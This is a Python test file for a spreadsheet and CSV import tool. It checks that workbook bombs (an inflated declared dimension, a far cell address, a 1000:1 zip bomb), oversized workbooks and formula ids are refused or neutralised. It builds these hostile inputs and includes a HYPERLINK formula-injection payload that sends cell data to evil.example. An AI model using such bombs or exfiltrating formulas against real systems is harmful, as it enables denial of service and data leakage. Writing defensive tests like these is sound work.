"""Issue 14, "Bad input that costs the server": each test is one case of the attack sweep that broke.

Workbook bombs (a declared dimension, a huge cell address, a zip bomb), a million-row workbook, control
characters and over-long ids, undecodable CSVs, formula ids in the Excel scoresheet, a full disk during an
import, and look-alike ids.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import resource
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from rrrs_core import scoresheet_xlsx as sx
from rrrs_core.errors import Problem, ValidationError
from rrrs_core.importing import import_path, xlsx_limits
from tests.tables import read_ok, write_folder, write_xlsx

ROOT = Path(__file__).resolve().parents[2]


def refused(con: duckdb.DuckDBPyConnection, path: Path) -> list[Problem]:
    with pytest.raises(ValidationError) as info:
        import_path(con, path)
    return info.value.problems


def with_dimension(src: Path, dest: Path, ref: str, extra_cell: str | None = None) -> Path:
    """Copy a workbook, declaring `ref` as every sheet's dimension (and optionally adding one far cell to the
    header row)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>', data.decode())
                if extra_cell:  # appended to the header row
                    text = text.replace("</row>", f'<c r="{extra_cell}" t="inlineStr"><is><t>x</t></is></c></row>', 1)
                data = text.encode()
            zout.writestr(info, data)
    return dest


def run_limited(code: str, seconds: int = 60, memory_mb: int = 1500) -> subprocess.CompletedProcess:
    """Run `code` in a child Python with an address-space limit, so a reader that allocates what the file
    claims fails there (MemoryError) instead of taking the test machine down."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory_mb << 20, memory_mb << 20))

    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], cwd=ROOT, capture_output=True, text=True,
                          timeout=seconds, preexec_fn=limit)


# --- a 2.4 KB .xlsx declaring A1:XFD1048576 ---------------------------------------------------------------


def test_declared_dimension_bomb_is_read_as_the_cells_that_exist(tmp_path):
    """The tables workbook declares A1:XFD1048576 on every sheet: the import reads only the cells that exist
    (it imports) instead of padding every row to 16 384 columns ("Unable to allocate 128 GiB")."""
    book = with_dimension(write_xlsx(tmp_path / "ok.xlsx", read_ok()), tmp_path / "bomb.xlsx", "A1:XFD1048576")
    assert book.stat().st_size < 10_000
    proc = run_limited(f"""
        import time
        from rrrs_core import store
        from rrrs_core.importing import import_path
        con = store.connect({str(tmp_path / 'db.duckdb')!r})
        start = time.perf_counter()
        print(import_path(con, {str(book)!r}).summary())
        print('seconds', round(time.perf_counter() - start, 1))
        """)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "4 new codings" in proc.stdout
    assert float(proc.stdout.split("seconds")[1]) < 20


def test_far_cell_in_tables_workbook_is_refused_by_name(con, tmp_path):
    """A cell at XFD1 widens the header to 16 384 columns: refused, naming file and sheet."""
    book = with_dimension(write_xlsx(tmp_path / "ok.xlsx", read_ok()), tmp_path / "wide.xlsx", "A1:XFD6",
                          extra_cell="XFD1")
    problems = refused(con, book)
    wide = [p for p in problems if "columns, more than the" in p.message]
    assert wide and wide[0].file.startswith("wide.xlsx [") and wide[0].row == 1


def test_rows_are_capped_with_use_csv_message(con, tmp_path, monkeypatch):
    """A sheet longer than MAX_ROWS is refused early with "use CSV", naming file and sheet (the cap is
    lowered here so the test stays fast; the streaming reader stops at the first row past it)."""
    monkeypatch.setattr(xlsx_limits, "MAX_ROWS", 10)
    frames = read_ok()
    frames["ratings"] = pd.concat([frames["ratings"]] * 3, ignore_index=True)  # 39 rows
    problems = refused(con, write_xlsx(tmp_path / "long.xlsx", frames))
    hit = [p for p in problems if "CSV" in p.message]
    assert [p.file for p in hit] == ["long.xlsx [ratings]"]
    assert "more than 10 rows" in hit[0].message


def test_zip_bomb_is_refused_before_it_is_opened(con, tmp_path):
    """A sheet that inflates 1000:1 is refused from the zip's directory, never decompressed."""
    src = write_xlsx(tmp_path / "ok.xlsx", read_ok())
    bomb = tmp_path / "zipbomb.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info.filename))
        zout.writestr("xl/padding.xml", b" " * (300 << 20))
    assert bomb.stat().st_size < 2 << 20
    problems = refused(con, bomb)
    assert problems[0].file == "zipbomb.xlsx" and "unzips to" in problems[0].message


def test_scoresheet_with_far_cell_is_refused_quickly(con):
    """An Excel scoresheet with one cell at XFD1048576: refused by name before the reader walks a million
    rows (before the fix: a million label lookups and 16 384 column reads)."""
    wb = load_workbook(io.BytesIO(sx.template(dyad_id="D1", therapist_id="T1", session_number=1, coder_id="C1")))
    wb["Scoresheet"]["XFD1048576"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    start = time.perf_counter()
    with pytest.raises(ValidationError) as info:
        sx.import_scoresheets(con, [("far.xlsx", buf.getvalue())])
    assert time.perf_counter() - start < 10
    (p,) = info.value.problems
    assert p.file == "far.xlsx [Scoresheet]" and "XFD1048576" in p.message


# --- a 32 MB xlsx of 1M real rows: streamed, and capped -------------------------------------------------


def test_large_workbook_streams_in_bounded_memory(tmp_path):
    """A workbook one row past the cap is refused with "use CSV" in bounded time and memory: the reader
    streams and stops at the cap instead of listing every row into a DataFrame first (the cap is lowered to
    20 000 rows in the child to keep the test short)."""
    cap = 20_000
    path = tmp_path / "big.xlsx"
    wb = Workbook(write_only=True)
    for name, frame in read_ok().items():
        ws = wb.create_sheet(name)
        ws.append(list(frame.columns))
        rows = frame.values.tolist()
        for row in rows if name != "ratings" else rows * (cap // len(rows) + 1):
            ws.append(row)
    wb.save(path)
    proc = run_limited(f"""
        import resource
        from rrrs_core import store
        from rrrs_core.errors import ValidationError
        from rrrs_core.importing import import_path, xlsx_limits
        xlsx_limits.MAX_ROWS = {cap}
        con = store.connect({str(tmp_path / 'db.duckdb')!r})
        try:
            import_path(con, {str(path)!r})
        except ValidationError as exc:
            print([str(p) for p in exc.problems])
        print('rss', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
        """, seconds=240)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "upload the three CSV files" in proc.stdout and "big.xlsx [ratings]" in proc.stdout
    assert "more than 20,000 rows" in proc.stdout
    assert int(proc.stdout.split("rss")[1]) < 600


# --- formula ids in the Excel scoresheet ----------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_formula_ids_are_written_as_text_in_the_scoresheet(con):
    """Every header value and note that starts with '=' is stored as a string cell: the filled scoresheet
    has no formula cells at all, and the ids read back exactly."""
    from rrrs_core import coding_edit as ce

    draft = ce.CodingDraft(EVIL, 1, EVIL, EVIL, dt.date(2026, 1, 5), 5, 10, EVIL, EVIL,
                           segment_notes={s: EVIL for s in range(1, 11)})
    wb = load_workbook(io.BytesIO(sx.template(draft=draft)))
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    ws = wb["Scoresheet"]
    assert sum(c.value == EVIL for row in ws.iter_rows() for c in row) == 15
